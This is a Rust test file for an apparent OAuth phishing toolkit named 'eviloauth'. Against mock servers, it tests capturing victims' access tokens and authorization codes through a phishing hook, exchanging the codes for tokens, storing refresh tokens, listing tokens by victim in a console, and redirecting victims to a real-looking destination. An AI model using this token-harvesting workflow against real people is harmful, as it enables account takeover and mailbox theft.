use crate::common::*;
use axum::{Form, Json, Router, http::StatusCode, routing::post};
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use eviloauth::{
    CaptureError, Expiry, HookParams, IdpError, SharedState, capture_access_token,
    capture_authorization_code, final_destination,
};
use serde_json::json;
use sha2::{Digest, Sha256};
use std::collections::HashMap;
use std::sync::{Arc, Mutex};

type Recorded = Arc<Mutex<Vec<HashMap<String, String>>>>;

/// Token endpoint that records every form it receives and answers with `body`.
async fn token_endpoint(body: serde_json::Value) -> (String, Recorded) {
    let recorded: Recorded = Arc::new(Mutex::new(Vec::new()));
    let sink = recorded.clone();
    let router = Router::new().route(
        "/token",
        post(move |Form(form): Form<HashMap<String, String>>| {
            let sink = sink.clone();
            let body = body.clone();
            async move {
                sink.lock().unwrap().push(form);
                Json(body)
            }
        }),
    );
    (format!("{}/token", spawn_mock_server(router).await), recorded)
}

fn query_param(url: &str, name: &str) -> String {
    url::Url::parse(url)
        .unwrap()
        .query_pairs()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.into_owned())
        .unwrap_or_else(|| panic!("{name} missing from {url}"))
}

#[tokio::test]
async fn test_callback_jwt_appears_in_tokens_list() {
    // Given a JWT whose payload names the victim
    let state = SharedState::new();
    let dispatcher = dispatcher_with(state.clone(), vec![], idp_defaults("http://unused")).await;
    let raw = jwt_with_claims(json!({"upn": "x@y.com", "scp": "Mail.Read"}));

    // When it arrives at the callback
    let key = capture_access_token(&state, Some(&raw)).await.unwrap();

    // Then the console lists it under the principal
    assert_eq!(key, "JWT-x@y.com");
    assert!(console(&dispatcher, "tokens list").await.contains("JWT-x@y.com"));
    let details = console(&dispatcher, "tokens list JWT-x@y.com").await;
    assert!(details.contains("Scope: Mail.Read"));
    assert!(details.contains("Algorithm: RS256"));
}

#[tokio::test]
async fn test_callback_opaque_then_delete() {
    let state = SharedState::new();
    let dispatcher = dispatcher_with(state.clone(), vec![], idp_defaults("http://unused")).await;

    let key = capture_access_token(&state, Some("plainstring1234567890"))
        .await
        .unwrap();
    assert_eq!(key, "OAT-1234567890");
    assert!(console(&dispatcher, "tokens list").await.contains("OAT-1234567890"));

    console(&dispatcher, "tokens delete OAT-1234567890").await;

    assert!(!state.tokens.contains("OAT-1234567890").await);
    assert!(!console(&dispatcher, "tokens list").await.contains("OAT-1234567890"));
}

#[tokio::test]
async fn test_recapture_same_identity_is_last_write_wins() {
    let state = SharedState::new();
    let first = jwt_with_claims(json!({"upn": "x@y.com", "scp": "old"}));
    let second = jwt_with_claims(json!({"upn": "x@y.com", "scp": "new"}));

    capture_access_token(&state, Some(&first)).await.unwrap();
    capture_access_token(&state, Some(&second)).await.unwrap();

    assert_eq!(state.tokens.len().await, 1);
    let token = state.tokens.get("JWT-x@y.com").await.unwrap();
    assert_eq!(token.scope(), Some("new"));
}

#[tokio::test]
async fn test_code_flow_end_to_end() {
    // Given a token endpoint and a configured code-flow session
    let (token_url, recorded) = token_endpoint(json!({
        "token_type": "Bearer",
        "expires_in": 3599,
        "access_token": jwt_with_claims(json!({"upn": "victim@corp.test", "exp": 4102444800_i64})),
        "refresh_token": "0.AAAA-refresh",
    }))
    .await;
    let state = SharedState::new();
    let dispatcher = dispatcher_with(state.clone(), vec![], idp_defaults(&token_url)).await;
    console(&dispatcher, "idp configure entra_code_flow").await;
    let url = console(&dispatcher, "url").await;
    assert_eq!(
        query_param(&url, "redirect_uri"),
        "https://phish.test:8443/hook"
    );

    // When the victim's browser lands on the hook with the issued state
    let params = HookParams {
        code: Some("M.C105_BAY.2.U.code".to_string()),
        state: Some(query_param(&url, "state")),
        ..Default::default()
    };
    let captured = capture_authorization_code(&state, &params).await.unwrap();

    // Then the exchange proved possession of the verifier behind the challenge
    let forms = recorded.lock().unwrap().clone();
    assert_eq!(forms.len(), 1);
    let form = &forms[0];
    assert_eq!(form["grant_type"], "authorization_code");
    assert_eq!(form["client_id"], CLIENT_ID);
    assert_eq!(form["code"], "M.C105_BAY.2.U.code");
    assert_eq!(form["redirect_uri"], "https://phish.test:8443/hook");
    let challenge = URL_SAFE_NO_PAD.encode(Sha256::digest(form["code_verifier"].as_bytes()));
    assert_eq!(challenge, query_param(&url, "code_challenge"));

    // And the token is stored with its refresh token
    assert_eq!(captured.key, "JWT-victim@corp.test");
    assert_eq!(captured.final_destination, "https://www.office.com");
    let token = state.tokens.get(&captured.key).await.unwrap();
    assert_eq!(token.refresh_token(), Some("0.AAAA-refresh"));
    assert!(matches!(token.time_until_expiry(), Expiry::Remaining(_)));

    // And a replay of the same redirect is refused without another request
    assert_eq!(
        capture_authorization_code(&state, &params).await,
        Err(CaptureError::Idp(IdpError::SessionConsumed))
    );
    assert_eq!(recorded.lock().unwrap().len(), 1);
}

#[tokio::test]
async fn test_hook_with_forged_state_makes_no_request() {
    let (token_url, recorded) = token_endpoint(json!({"access_token": "unused"})).await;
    let state = SharedState::new();
    let dispatcher = dispatcher_with(state.clone(), vec![], idp_defaults(&token_url)).await;
    console(&dispatcher, "idp configure entra_code_flow").await;

    let params = HookParams {
        code: Some("code".to_string()),
        state: Some("forged".to_string()),
        ..Default::default()
    };

    assert_eq!(
        capture_authorization_code(&state, &params).await,
        Err(CaptureError::Idp(IdpError::StateMismatch))
    );
    assert!(recorded.lock().unwrap().is_empty());
    assert!(state.tokens.is_empty().await);
}

#[tokio::test]
async fn test_rejected_code_is_upstream_error() {
    let router = Router::new().route(
        "/token",
        post(|| async {
            (
                StatusCode::BAD_REQUEST,
                Json(json!({"error": "invalid_grant"})),
            )
        }),
    );
    let token_url = format!("{}/token", spawn_mock_server(router).await);
    let state = SharedState::new();
    let dispatcher = dispatcher_with(state.clone(), vec![], idp_defaults(&token_url)).await;
    console(&dispatcher, "idp configure entra_code_flow").await;
    let url = console(&dispatcher, "url").await;

    let params = HookParams {
        code: Some("expired-code".to_string()),
        state: Some(query_param(&url, "state")),
        ..Default::default()
    };
    let error = capture_authorization_code(&state, &params).await.unwrap_err();

    assert!(error.is_upstream());
    assert!(state.tokens.is_empty().await);
}

#[tokio::test]
async fn test_final_destination_follows_latest_session() {
    let state = SharedState::new();
    let dispatcher = dispatcher_with(state.clone(), vec![], idp_defaults("http://unused")).await;
    assert_eq!(final_destination(&state).await, "/");

    console(
        &dispatcher,
        "idp configure entra_implicit_flow final_destination=https://outlook.test",
    )
    .await;

    assert_eq!(final_destination(&state).await, "https://outlook.test");
    assert_eq!(
        query_param(&console(&dispatcher, "url").await, "response_type"),
        "token"
    );
}
